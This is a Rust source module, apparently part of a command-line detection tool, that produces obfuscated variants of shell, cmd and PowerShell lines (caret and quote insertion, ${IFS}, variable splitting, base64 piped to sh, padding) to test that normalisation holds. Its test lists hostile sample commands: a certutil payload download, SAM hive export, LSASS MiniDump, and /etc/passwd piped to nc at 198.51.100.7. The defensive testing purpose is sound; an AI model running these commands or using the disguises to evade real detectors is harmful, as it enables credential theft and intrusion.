//! Disguises of our own for command lines, as text: to test that scores hold, and to train with. Nothing is run.

use super::{Rules, rules};
use crate::random::Random;
use crate::text::script::mutate as script;

/// A way to disguise a command line. What does not apply to a line's shell leaves it as it is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Mutation {
    /// Letters change case (Windows).
    Case,
    /// `^` in words (Windows).
    Caret,
    /// Quotes in words.
    Quote,
    /// `\` in words (Unix).
    Escape,
    /// More white space; on Unix `${IFS}`.
    Space,
    /// Words kept in variables.
    Variables,
    /// Base64, run by a shell.
    Encode,
    /// Harmless commands before and after.
    Padding,
}

impl Mutation {
    /// All of them.
    pub const ALL: [Self; 8] =
        [Self::Case, Self::Caret, Self::Quote, Self::Escape, Self::Space, Self::Variables, Self::Encode, Self::Padding];

    /// Its name.
    pub fn name(self) -> &'static str {
        match self {
            Self::Case => "case",
            Self::Caret => "caret",
            Self::Quote => "quote",
            Self::Escape => "escape",
            Self::Space => "space",
            Self::Variables => "variables",
            Self::Encode => "encode",
            Self::Padding => "padding",
        }
    }
}

/// The line disguised.
pub fn mutate(text: &str, how: Mutation, random: &mut Random) -> String {
    match rules(text) {
        Rules::PowerShell => {
            let how = match how {
                Mutation::Case => script::Mutation::Case,
                Mutation::Caret | Mutation::Escape => script::Mutation::Backtick,
                Mutation::Quote => script::Mutation::Quote,
                Mutation::Space => script::Mutation::Space,
                Mutation::Variables => script::Mutation::Variables,
                Mutation::Encode => script::Mutation::Encode,
                Mutation::Padding => script::Mutation::Padding,
            };
            script::mutate(text, how, random)
        }
        Rules::Dos => dos(text, how, random),
        Rules::Shell => shell(text, how, random),
    }
}

/// The words of the first line before any quote, as byte ranges: what can be disguised without knowing the rest.
fn words(text: &str) -> Vec<(usize, usize)> {
    let end = text.find(['"', '\'', '`', '$', '<', '#', '\n', '%', '!', '{', '\\']).unwrap_or(text.len());
    let mut out = Vec::new();
    let mut from = 0usize;
    for (at, byte) in text.bytes().enumerate().take(end + 1) {
        if byte == b' ' || at == end {
            out.push((from, at));
            from = at + 1;
        }
    }
    if end == text.len() {
        out.push((from, end));
    }
    let plain = |word: &str| {
        word.len() >= 3 && word.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_'))
    };
    out.retain(|(from, to)| text.get(*from..*to).is_some_and(plain));
    out.truncate(8);
    out
}

/// Puts something into each word.
fn in_words(text: &str, mut change: impl FnMut(&str) -> String) -> String {
    let mut out = String::with_capacity(text.len() * 2);
    let mut at = 0usize;
    for (from, to) in words(text) {
        out.push_str(text.get(at..from).unwrap_or(""));
        out.push_str(&change(text.get(from..to).unwrap_or("")));
        at = to;
    }
    out.push_str(text.get(at..).unwrap_or(""));
    out
}

fn inserted(word: &str, what: &str, random: &mut Random) -> String {
    let mut out = String::new();
    let sure = 1 + random.below(word.len() - 1);
    for (at, next) in word.chars().enumerate() {
        if at > 0 && next.is_ascii_alphabetic() && (at == sure || random.below(4) == 0) {
            out.push_str(what);
        }
        out.push(next);
    }
    out
}

fn dos(text: &str, how: Mutation, random: &mut Random) -> String {
    match how {
        Mutation::Case => text
            .chars()
            .map(|next| if random.below(2) == 0 { next.to_ascii_uppercase() } else { next.to_ascii_lowercase() })
            .collect(),
        Mutation::Caret => in_words(text, |word| inserted(word, "^", random)),
        Mutation::Quote => in_words(text, |word| inserted(word, "\"\"", random)),
        Mutation::Escape => text.to_owned(),
        Mutation::Space => {
            let spaces = [" ", "  ", "   ", " ,", "; ", " ,  "];
            let end = words(text).last().map_or(0, |word| word.1);
            let (head, tail) = text.split_at_checked(end).unwrap_or(("", text));
            head.split(' ')
                .enumerate()
                .map(|(at, word)| {
                    if at == 0 {
                        word.to_owned()
                    } else {
                        format!("{}{word}", spaces.get(random.below(spaces.len())).unwrap_or(&" "))
                    }
                })
                .collect::<String>()
                + tail
        }
        Mutation::Variables => {
            let Some((from, to)) = words(text).first().copied() else {
                return text.to_owned();
            };
            let word = text.get(from..to).unwrap_or("");
            let at = 1 + random.below(word.len() - 1);
            let (a, b) = (random.below(900), random.below(900));
            let before = text.get(..from).unwrap_or("");
            format!(
                "set a{a}={}&set b{b}={}&{before}call %a{a}%%b{b}%{}",
                word.get(..at).unwrap_or(""),
                word.get(at..).unwrap_or(""),
                text.get(to..).unwrap_or("")
            )
        }
        Mutation::Encode => script::mutate(text, script::Mutation::Encode, random),
        Mutation::Padding => {
            let line = |random: &mut Random| DOS_LINES.get(random.below(DOS_LINES.len())).copied().unwrap_or("");
            format!("{}&{}&{text}&{}&{}", line(random), line(random), line(random), line(random))
        }
    }
}

fn shell(text: &str, how: Mutation, random: &mut Random) -> String {
    match how {
        Mutation::Case | Mutation::Caret => text.to_owned(),
        Mutation::Quote => in_words(text, |word| inserted(word, "''", random)),
        Mutation::Escape => in_words(text, |word| inserted(word, "\\", random)),
        Mutation::Space => {
            let end = words(text).last().map_or(0, |word| word.1);
            let (head, tail) = text.split_at_checked(end).unwrap_or(("", text));
            let spaces = [" ", "  ", "\t", "${IFS}"];
            head.split(' ')
                .enumerate()
                .map(|(at, word)| {
                    if at == 0 {
                        word.to_owned()
                    } else {
                        format!("{}{word}", spaces.get(random.below(spaces.len())).unwrap_or(&" "))
                    }
                })
                .collect::<String>()
                + tail
        }
        Mutation::Variables => {
            let Some((from, to)) = words(text).first().copied().filter(|(from, _)| *from == 0) else {
                return text.to_owned();
            };
            let word = text.get(from..to).unwrap_or("");
            let at = 1 + random.below(word.len() - 1);
            format!(
                "a={};b={};$a$b{}",
                word.get(..at).unwrap_or(""),
                word.get(at..).unwrap_or(""),
                text.get(to..).unwrap_or("")
            )
        }
        Mutation::Encode => format!("echo {} | base64 -d | sh", script::base64(text.as_bytes())),
        Mutation::Padding => {
            let line = |random: &mut Random| SHELL_LINES.get(random.below(SHELL_LINES.len())).copied().unwrap_or("");
            format!("{}; {}\n{text}\n{}; {}", line(random), line(random), line(random), line(random))
        }
    }
}

const DOS_LINES: &[&str] = &[
    "echo starting",
    "cd /d D:\\build",
    "rem nightly job",
    "dir /b",
    "date /t",
    "ver",
    "echo done",
    "if exist logs rd logs",
    "title backup",
    "type readme.txt",
    "sort list.txt",
];
const SHELL_LINES: &[&str] = &[
    "ls -la",
    "cd /srv/app",
    "date",
    "echo done",
    "df -h",
    "mkdir -p logs",
    "git status",
    "make test",
    "tail -n 20 app.log",
    "sort list.txt",
    "wc -l *.txt",
];

#[cfg(test)]
mod tests {
    use super::super::SHAPE;
    use super::*;
    use crate::text::form::Form;

    fn shown(text: &str) -> String {
        let mut form = Form::new(false);
        (SHAPE.canonical)(text, 0, &mut form);
        String::from_utf8_lossy(form.bytes()).into_owned()
    }

    #[test]
    fn disguises_leave_the_canonical_form_as_it_is() {
        let lines = [
            "cmd.exe /c certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe",
            "reg save HKLM\\sam C:\\temp\\sam",
            "rundll32.exe comsvcs.dll MiniDump 624 C:\\temp\\l.dmp full",
            "curl -s http://198.51.100.7/x.sh -o /tmp/x",
            "cat /etc/passwd | nc 198.51.100.7 4444",
        ];
        for line in lines {
            for how in Mutation::ALL {
                for seed in 0..8 {
                    let disguised = mutate(line, how, &mut Random::new(seed));
                    let whole = matches!(how, Mutation::Encode | Mutation::Padding | Mutation::Variables);
                    let (got, want) = (shown(&disguised), shown(line));
                    assert!(
                        if whole {
                            got.contains(&want)
                                || how == Mutation::Encode && got.contains(want.split(' ').nth(1).unwrap())
                        } else {
                            got == want
                        },
                        "{how:?}: {disguised}\n{got}\n{want}"
                    );
                }
            }
        }
    }

    #[test]
    fn what_is_no_command_is_disguised_without_harm() {
        for text in ["", "'", "é’", "a", "^", "cmd", "%", "$x=", "   ", "abc\0"] {
            for how in Mutation::ALL {
                let _ = mutate(text, how, &mut Random::new(1));
            }
        }
    }
}
